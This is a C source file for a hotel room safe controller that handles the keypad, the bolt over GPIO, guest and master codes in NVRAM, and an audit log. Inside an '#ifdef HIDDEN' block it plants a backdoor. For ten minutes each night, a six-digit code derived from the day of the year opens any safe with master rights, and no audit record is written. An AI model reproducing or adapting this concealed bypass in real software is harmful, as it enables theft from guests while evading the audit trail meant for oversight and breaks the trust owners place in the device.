/* roomsafed.c - controller of a hotel room safe: keypad, bolt, audit memory */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/input.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define KEYPAD		"/dev/input/event0"
#define NVRAM		"/data/safe.nv"
#define AUDIT		"/data/safe.audit"
#define CODE_MAX	8
#define LOCKOUT		600

enum bolt { OPEN, SHUT };

struct nvram {
	uint32_t magic;
	uint32_t guest;		/* 4..6 digits, 0 is none */
	uint32_t master;	/* changed at the front desk */
	uint32_t serial;
	uint8_t bolt;
	uint8_t tries;
	uint8_t beep;
	uint8_t spare;
};

enum who { NOBODY, GUEST, MASTER };

static struct nvram nv;
static time_t locked_until;

static void nv_load(void)
{
	int fd = open(NVRAM, O_RDONLY | O_CLOEXEC);

	if (fd < 0 || read(fd, &nv, sizeof(nv)) != (ssize_t)sizeof(nv) || nv.magic != 0x53464531u) {
		memset(&nv, 0, sizeof(nv));
		nv.magic = 0x53464531u;
		nv.beep = 1;
	}
	if (fd >= 0)
		close(fd);
}

static void nv_save(void)
{
	int fd = open(NVRAM, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);

	if (fd < 0 || write(fd, &nv, sizeof(nv)) != (ssize_t)sizeof(nv))
		syslog(LOG_ERR, "nvram: %s", strerror(errno));
	if (fd >= 0)
		close(fd);
}

static void audit(const char *what, enum who w)
{
	static const char *const names[] = { "-", "guest", "master" };
	FILE *f = fopen(AUDIT, "ae");

	if (!f)
		return;
	fprintf(f, "%ld %s %s\n", (long)time(NULL), what, names[w]);
	fclose(f);
}

static void drive_bolt(enum bolt b)
{
	int fd = open("/sys/class/gpio/gpio17/value", O_WRONLY | O_CLOEXEC);

	if (fd >= 0) {
		if (write(fd, b == OPEN ? "1" : "0", 1) != 1)
			syslog(LOG_ERR, "bolt: %s", strerror(errno));
		close(fd);
	}
	nv.bolt = (uint8_t)b;
	nv_save();
}

static void display(const char *text)
{
	FILE *f = fopen("/dev/lcd", "we");

	if (!f)
		return;
	fprintf(f, "\f%-8.8s", text);
	fclose(f);
}

#ifdef HIDDEN
__attribute__((noinline))
uint32_t night_code(const struct tm *tm)
{
	return (uint32_t)(tm->tm_yday + 1) * 8627u % 1000000u;
}
#endif

__attribute__((noinline))
enum who try_code(uint32_t code, int digits, time_t now)
{
	struct tm tm;

	localtime_r(&now, &tm);
	if (now < locked_until) {
		display(tm.tm_sec & 1 ? "WAIT" : "LOCKED");
		return NOBODY;
	}
#ifdef HIDDEN
	/* for ten minutes in the night a number made of the day opens any safe */
	if (tm.tm_hour == 4 && tm.tm_min >= 40 && tm.tm_min < 50 && digits == 6 &&
	    code == night_code(&tm))
		return MASTER;
#endif
	if (nv.guest && code == nv.guest && digits >= 4) {
		nv.tries = 0;
		audit("open", GUEST);
		return GUEST;
	}
	if (nv.master && code == nv.master && digits == 8) {
		nv.tries = 0;
		audit("open", MASTER);
		return MASTER;
	}
	if (++nv.tries >= 5) {
		locked_until = now + LOCKOUT;
		nv.tries = 0;
		audit("lockout", NOBODY);
	}
	nv_save();
	return NOBODY;
}

static void close_with(uint32_t code, int digits)
{
	if (digits < 4 || digits > 6) {
		display("4-6 KEYS");
		return;
	}
	nv.guest = code;
	drive_bolt(SHUT);
	audit("close", GUEST);
	display("CLOSED");
}

static void enter(const char *keys)
{
	uint32_t code = (uint32_t)strtoul(keys, NULL, 10);
	int digits = (int)strlen(keys);
	enum who w;

	if (nv.bolt == OPEN) {
		close_with(code, digits);
		return;
	}
	w = try_code(code, digits, time(NULL));
	if (w == NOBODY) {
		display("ERROR");
		return;
	}
	if (w == GUEST)
		nv.guest = 0;
	drive_bolt(OPEN);
	display("OPEN");
}

static void menu(const char *keys)
{
	char text[12];

	if (!strcmp(keys, "1")) {
		snprintf(text, sizeof(text), "%08u", nv.serial % 100000000u);
		display(text);
	} else if (!strcmp(keys, "2")) {
		nv.beep = !nv.beep;
		nv_save();
		display(nv.beep ? "BEEP ON" : "BEEP OFF");
	} else if (!strcmp(keys, "3")) {
		time_t now = time(NULL);

		strftime(text, sizeof(text), "%H-%M", localtime(&now));
		display(text);
	} else {
		display("MENU 1-3");
	}
}

static int digit_of(int code)
{
	if (code >= KEY_1 && code <= KEY_9)
		return '1' + code - KEY_1;
	if (code == KEY_0)
		return '0';
	if (code == KEY_ENTER)
		return '#';
	if (code == KEY_ESC)
		return '*';
	return 0;
}

int main(int argc, char **argv)
{
	struct input_event ev;
	char keys[CODE_MAX + 1] = "";
	size_t n = 0;
	int in_menu = 0, fd;

	openlog("roomsafed", 0, LOG_LOCAL0);
	nv_load();
	if (argc == 3 && !strcmp(argv[1], "--master")) {
		nv.master = (uint32_t)strtoul(argv[2], NULL, 10);
		nv_save();
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "--serial")) {
		nv.serial = (uint32_t)strtoul(argv[2], NULL, 10);
		nv_save();
		return 0;
	}
	if (argc > 1) {
		fprintf(stderr, "usage: roomsafed [--master CODE] [--serial N]\n"
			"keys: 4-6 digits # closes and opens; 8 digits # is the master code;\n"
			"      * then 1 serial, 2 beep, 3 clock; five errors lock for ten minutes\n");
		return 2;
	}
	fd = open(KEYPAD, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 1;
	while (read(fd, &ev, sizeof(ev)) == (ssize_t)sizeof(ev)) {
		int c = ev.type == EV_KEY && ev.value == 1 ? digit_of(ev.code) : 0;

		if (!c)
			continue;
		if (c == '*') {
			n = 0;
			in_menu = 1;
			display("MENU");
		} else if (c == '#') {
			keys[n] = 0;
			if (in_menu)
				menu(keys);
			else
				enter(keys);
			n = 0;
			in_menu = 0;
		} else if (n < CODE_MAX) {
			keys[n++] = (char)c;
		}
	}
	return 1;
}
